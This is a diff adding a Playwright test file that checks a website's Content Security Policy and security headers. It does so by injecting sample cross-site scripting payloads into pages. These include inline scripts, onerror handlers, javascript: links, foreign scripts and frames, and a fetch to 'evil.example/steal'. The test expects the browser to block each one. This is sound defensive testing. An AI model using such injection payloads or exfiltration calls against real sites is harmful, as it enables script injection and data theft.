@@ -1,0 +1,213 @@
+// What a browser refuses on our behalf: whatever gets into a page must not run, load or send.
+import { readFileSync } from 'node:fs'
+import { test as base, type Page } from '@playwright/test'
+import { expect, routes, test } from './support/world.ts'
+
+/** Waits until the browser says that what `act` did in the page broke one of these directives. */
+async function expectRefusal(page: Page, act: () => void, directives: readonly string[]): Promise<void> {
+  await page.evaluate(() => {
+    const refused: string[] = []
+    document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective))
+    Object.assign(window, { refused })
+  })
+  // Where text becomes no markup the act itself is stopped.
+  await page.evaluate(act).catch(() => undefined)
+  const refused = () => page.evaluate(() => (window as never as { refused: string[] }).refused)
+  await expect.poll(async () => (await refused()).filter((one) => directives.includes(one))).not.toEqual([])
+}
+
+/** The rule by which text becomes no markup and no address of a script. */
+const TRUSTED = 'require-trusted-types-for'
+
+const wasOwned = (page: Page) => page.evaluate(() => 'owned' in window)
+
+const attacks: [string, string, () => void][] = [
+  [
+    'an inline script',
+    'script-src-elem',
+    () => {
+      const script = document.createElement('script')
+      script.textContent = 'window.owned = true'
+      document.body.append(script)
+    }
+  ],
+  [
+    'an inline handler',
+    'script-src-attr',
+    () => {
+      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.owned = true">')
+    }
+  ],
+  [
+    'a link that is a script',
+    'script-src-elem',
+    () => {
+      const link = document.createElement('a')
+      link.href = 'javascript:window.owned=true'
+      document.body.append(link)
+      link.click()
+    }
+  ],
+  [
+    'a script of another site',
+    'script-src-elem',
+    () => {
+      const script = document.createElement('script')
+      script.src = 'https://evil.example/x.js'
+      document.body.append(script)
+    }
+  ],
+  [
+    'text that is run',
+    'script-src',
+    () => {
+      // Later: what the test itself runs is exempt for as long as it runs.
+      setTimeout(() => {
+        // biome-ignore lint/security/noGlobalEval: the test is that it does not run.
+        window.eval('window.owned = true')
+      })
+    }
+  ],
+  [
+    'a frame of another site',
+    'frame-src',
+    () => {
+      const frame = document.createElement('iframe')
+      frame.src = 'https://evil.example/'
+      document.body.append(frame)
+    }
+  ],
+  [
+    'another base for all links',
+    'base-uri',
+    () => {
+      const other = document.createElement('base')
+      other.href = 'https://evil.example/'
+      document.head.append(other)
+    }
+  ],
+  [
+    'a style attribute',
+    'style-src-attr',
+    () => {
+      document.body.insertAdjacentHTML('beforeend', '<p style="position:fixed">x</p>')
+    }
+  ],
+  [
+    'a word to another site',
+    'connect-src',
+    () => {
+      void fetch('https://evil.example/steal').catch(() => undefined)
+    }
+  ],
+  [
+    'a form that goes elsewhere',
+    'form-action',
+    () => {
+      const form = document.createElement('form')
+      form.action = 'https://evil.example/'
+      document.body.append(form)
+      form.submit()
+    }
+  ]
+]
+
+/** One page of each policy: of listeners, where one pays, and behind the login, where text becomes no markup either. */
+const policies = ['/', '/checkout/', '/bo9/login/'] as const
+
+for (const where of policies)
+  base(`WEB-02: on ${where} nothing that gets into the page gets anywhere`, async ({ page }) => {
+    await page.goto(where)
+    const isOffice = where.startsWith('/bo9/')
+    for (const [name, directive, act] of attacks)
+      await base.step(name, async () => {
+        await expectRefusal(page, act, isOffice ? [directive, TRUSTED] : [directive])
+        expect(await wasOwned(page)).toBe(false)
+        expect(new URL(page.url()).pathname).toBe(where)
+      })
+  })
+
+base('no other site can show us in a frame', async ({ page, baseURL }) => {
+  await page.route('https://evil.example/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe>` })
+  )
+  await page.goto('https://evil.example/')
+  await expect.poll(() => page.frames().at(1)?.url()).toMatch(/^chrome-error:/)
+})
+
+test('WEB-01: every kind of page loads in both themes without a word from the policy, and from our own site only', async ({
+  page,
+  baseURL
+}) => {
+  const foreign: string[] = []
+  page.on('request', (request) => {
+    if (!request.url().startsWith(`${baseURL}/`) && !request.url().startsWith('data:'))
+      foreign.push(request.url())
+  })
+  for (const colorScheme of ['light', 'dark'] as const) {
+    await page.emulateMedia({ colorScheme })
+    for (const route of routes) {
+      const response = await page.goto(route, { waitUntil: 'load' })
+      const headers = response?.headers() ?? {}
+      expect(headers['content-security-policy'], route).toContain(
+        "default-src 'self'; script-src 'self' 'sha256-"
+      )
+      expect(headers['x-content-type-options'], route).toBe('nosniff')
+      expect(headers['referrer-policy'], route).toBe('strict-origin-when-cross-origin')
+      expect(headers['strict-transport-security'], route).toContain('includeSubDomains')
+      expect(headers['cache-control'], route).toBe('public, max-age=0, must-revalidate')
+    }
+  }
+  expect(foreign).toEqual([])
+})
+
+test('WEB-01: pages where one pays, the login and pages that are not there load without a word from it', async ({
+  page
+}) => {
+  for (const colorScheme of ['light', 'dark'] as const) {
+    await page.emulateMedia({ colorScheme })
+    for (const route of ['/checkout/', '/checkout/success/', '/superfan/', '/bo9/login/'])
+      expect((await page.goto(route, { waitUntil: 'load' }))?.status(), route).toBe(200)
+  }
+})
+
+test.describe('where nothing is', () => {
+  test.use({ expectedComplaints: [/status of 404/] })
+
+  test('WEB-01: the page for lost visitors works under every policy', async ({ page }) => {
+    for (const route of ['/oz/', '/checkout/oz/', '/bo9/oz/']) {
+      expect((await page.goto(route, { waitUntil: 'load' }))?.status(), route).toBe(404)
+      await expect(page.getByRole('heading', { level: 1 })).toHaveText('404 Page Not Found')
+    }
+    expect((await page.request.get('/bo9/oz/')).headers()['cache-control']).toBe('no-store')
+  })
+})
+
+test('WEB-01: posters and sound of other hosts come in', async ({ page }) => {
+  const sound = readFileSync('sample/audio/kort-maar-krachtig.mp3')
+  const picture = '<svg xmlns="http://www.w3.org/2000/svg" width="2" height="3"/>'
+  await page.route(/^https:\/\//, (route) =>
+    route.request().resourceType() === 'media'
+      ? route.fulfill({ body: sound, contentType: 'audio/mpeg' })
+      : route.fulfill({ body: picture, contentType: 'image/svg+xml' })
+  )
+  await page.goto('/')
+  const came = await page.evaluate(async () => {
+    const load = (element: HTMLImageElement | HTMLAudioElement, name: string, src: string) =>
+      new Promise((resolve) => {
+        element.addEventListener(name, () => resolve('came'))
+        element.addEventListener('error', () => resolve('refused'))
+        element.src = src
+      })
+    const hosts = [
+      'https://traffic.libsyn.com/a.mp3',
+      'https://media.example/b.mp3',
+      'https://anchor.fm/c.mp3'
+    ]
+    return Promise.all([
+      load(new Image(), 'load', 'https://image.tmdb.org/t/p/w342/poster.svg'),
+      ...hosts.map((host) => load(new Audio(), 'loadedmetadata', host))
+    ])
+  })
+  expect(came).toEqual(Array(4).fill('came'))
+})
